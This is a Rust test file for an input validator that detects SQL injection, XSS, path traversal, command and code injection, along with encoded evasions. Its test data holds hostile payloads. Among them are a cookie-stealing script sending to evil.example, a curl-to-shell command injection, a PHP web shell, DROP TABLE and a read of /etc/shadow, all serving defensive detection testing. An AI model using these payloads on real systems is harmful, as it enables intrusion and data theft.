@@ -1,0 +1,189 @@
+//! Input validation on inputs written for these tests (never copied from the corpus): each category,
+//! its common evasions, prose that must pass, and any bytes without a panic.
+
+use proptest::prelude::*;
+use vana_config::InputValidation;
+use vana_security::{Category, InputValidator, Severity, Verdict};
+
+/// Built once: compiling the rule set is the expensive part, and tests share it.
+fn validator() -> &'static InputValidator {
+    static VALIDATOR: std::sync::LazyLock<InputValidator> = std::sync::LazyLock::new(|| {
+        InputValidator::new(&InputValidation::default()).expect("default rules compile")
+    });
+    &VALIDATOR
+}
+
+fn category(input: &str) -> Option<Category> {
+    validator()
+        .validate(input)
+        .rejection()
+        .map(|rejection| rejection.category)
+}
+
+#[test]
+fn each_category_is_recognised() {
+    let cases: &[(&str, Category)] = &[
+        ("bob' OR 'a'='a", Category::SqlInjection),
+        (
+            "42 UNION ALL SELECT name, pass FROM accounts",
+            Category::SqlInjection,
+        ),
+        ("x'; DROP TABLE orders; --", Category::SqlInjection),
+        ("1 AND SLEEP(7)", Category::SqlInjection),
+        ("'; WAITFOR DELAY '0:0:9'--", Category::SqlInjection),
+        (
+            "<script>fetch('//evil.example/'+document.cookie)</script>",
+            Category::Xss,
+        ),
+        ("<svg/onload=confirm(7)>", Category::Xss),
+        ("\" autofocus onfocus=\"prompt(1)", Category::Xss),
+        ("<a href='javascript:void(open())'>x</a>", Category::Xss),
+        ("../../../../etc/shadow", Category::PathTraversal),
+        ("..\\..\\windows\\win.ini", Category::PathTraversal),
+        (
+            "php://filter/convert.base64-encode/resource=index",
+            Category::PathTraversal,
+        ),
+        ("name; whoami && id", Category::CommandInjection),
+        (
+            "8.8.8.8 && curl http://evil.example/x | sh",
+            Category::CommandInjection,
+        ),
+        ("$(whoami)", Category::CommandInjection),
+        ("<?php system($_GET['c']); ?>", Category::CodeInjection),
+        (
+            "{{ config.__class__.__init__.__globals__ }}",
+            Category::CodeInjection,
+        ),
+    ];
+    for (input, expected) in cases {
+        assert_eq!(category(input), Some(*expected), "{input}");
+    }
+}
+
+#[test]
+fn evasions_are_undone_before_matching() {
+    for input in [
+        "%27%20or%20%271%27%3D%271",                 // URL-encoded
+        "%2527%2520or%25201%253D1%2520--%2520",      // double-encoded
+        "%u0027 or 1=1 --",                          // %u encoding
+        "1/*!50000UNION*/ SELECT 1,2",               // MySQL executable comment
+        "&#60;script&#62;alert(1)&#60;/script&#62;", // HTML entities
+        "&lt;img src=x onerror=alert(1)&gt;",
+        "java\0script:alert(1)",                      // NUL inside a scheme
+        "jav&#x09;ascript:alert(1)",                  // entity-encoded tab
+        "＜script＞alert(1)＜/script＞",              // fullwidth
+        "\\x3cscript\\x3ealert(1)",                   // JS escapes
+        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",       // overlong UTF-8 dots
+        "..%252f..%252f..%252fboot.ini",              // double-encoded slash
+        "%uff0e%uff0e%u2215%uff0e%uff0e%u2215secret", // fullwidth dot, division slash
+    ] {
+        assert!(!validator().validate(input).is_passed(), "{input}");
+    }
+    // Splitting a keyword with a comment is not SQL MySQL runs; the comment-as-space form is.
+    assert!(!validator().validate("1 UNION/**/SELECT 2").is_passed());
+}
+
+#[test]
+fn prose_and_ordinary_form_input_pass() {
+    for input in [
+        "I tell you, Watson--",
+        "\"Then it was you--\" she began, and stopped.",
+        "It's 5' 11\" and about 180 lbs -- roughly.",
+        "Rock 'n' roll and blues, or jazz if you prefer",
+        "Select a size from the list below",
+        "O'Brien & Sons; established 1912",
+        "Price: $20 (or best offer)",
+        "Where is the meeting? Room 4 or 5.",
+        "Please drop the tables off by the door",
+        "100% cotton, 50/50 blend",
+        "Ünïcödé ťëxť — naïve café, 東京, Москва",
+        "user@example.com",
+        "C'est la vie; on verra demain",
+        "see https://example.com/a/b?c=d&e=f",
+        "onion rings and online orders",
+    ] {
+        assert_eq!(validator().validate(input), Verdict::Passed, "{input}");
+    }
+}
+
+#[test]
+fn the_length_limit_comes_first_in_bytes() {
+    let validator = validator();
+    let limit = InputValidation::default().max_input_length as usize;
+    assert!(validator.validate(&"a".repeat(limit)).is_passed());
+    let verdict = validator.validate(&"a".repeat(limit + 1));
+    let rejection = verdict.rejection().unwrap();
+    assert_eq!(rejection.category, Category::TooLong);
+    assert_eq!(rejection.rule_id, 1);
+    // Bytes, not characters: 3 bytes each.
+    assert_eq!(
+        validator
+            .validate_with_limit("日本語", 8)
+            .rejection()
+            .map(|r| r.category),
+        Some(Category::TooLong)
+    );
+    assert!(validator.validate_with_limit("日本語", 9).is_passed());
+}
+
+#[test]
+fn configured_patterns_run_with_the_built_in_rules() {
+    let mut config = InputValidation::default();
+    config.forbidden_patterns = vec!["forbidden[- ]word".into()];
+    let validator = InputValidator::new(&config).unwrap();
+    let verdict = validator.validate("a Forbidden Word here");
+    let rejection = verdict.rejection().unwrap();
+    assert_eq!(rejection.category, Category::ForbiddenPattern);
+    assert_eq!(rejection.rule_id, 900);
+    assert_eq!(rejection.severity, Severity::High);
+    config.forbidden_patterns = vec!["(unclosed".into()];
+    let error = InputValidator::new(&config).unwrap_err().to_string();
+    assert!(
+        error.starts_with("input_validation.forbidden_patterns[0]: the pattern does not compile"),
+        "{error}"
+    );
+}
+
+#[test]
+fn a_verdict_never_echoes_the_input() {
+    let input = "<script>alert('a-unique-marker-7431')</script>";
+    let verdict = validator().validate(input);
+    let json = serde_json::to_string(&verdict).unwrap();
+    assert!(!json.contains("a-unique-marker-7431"), "{json}");
+    assert!(json.contains("\"category\":\"xss\""), "{json}");
+}
+
+#[test]
+fn every_rule_compiles_alone_and_has_a_unique_id() {
+    let mut ids = std::collections::HashSet::new();
+    for rule in vana_security::BUILT_IN_RULES {
+        assert!(ids.insert(rule.id), "duplicate id {}", rule.id);
+        regex::bytes::RegexBuilder::new(rule.pattern)
+            .unicode(false)
+            .case_insensitive(true)
+            .build()
+            .unwrap();
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]
+
+    #[test]
+    fn any_bytes_get_a_verdict(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
+        let validator = validator();
+        let _ = validator.validate_bytes(&bytes);
+        let _ = validator.validate(&String::from_utf8_lossy(&bytes));
+    }
+
+    #[test]
+    fn encoded_noise_gets_a_verdict(parts in prop::collection::vec(prop_oneof![
+        Just("%".to_owned()), Just("%25".to_owned()), Just("%u".to_owned()), Just("&#".to_owned()), Just("&#x".to_owned()),
+        Just("\\x".to_owned()), Just("\\u{".to_owned()), Just("/*".to_owned()), Just("*/".to_owned()), Just("%c0".to_owned()),
+        Just("0x2".to_owned()), "[0-9a-fA-F]{1,3}", "[ -~]{0,4}", Just("\u{ff0e}".to_owned()), Just("\u{fffd}".to_owned()),
+    ], 0..60)) {
+        let input: String = parts.concat();
+        let _ = validator().validate(&input);
+    }
+}
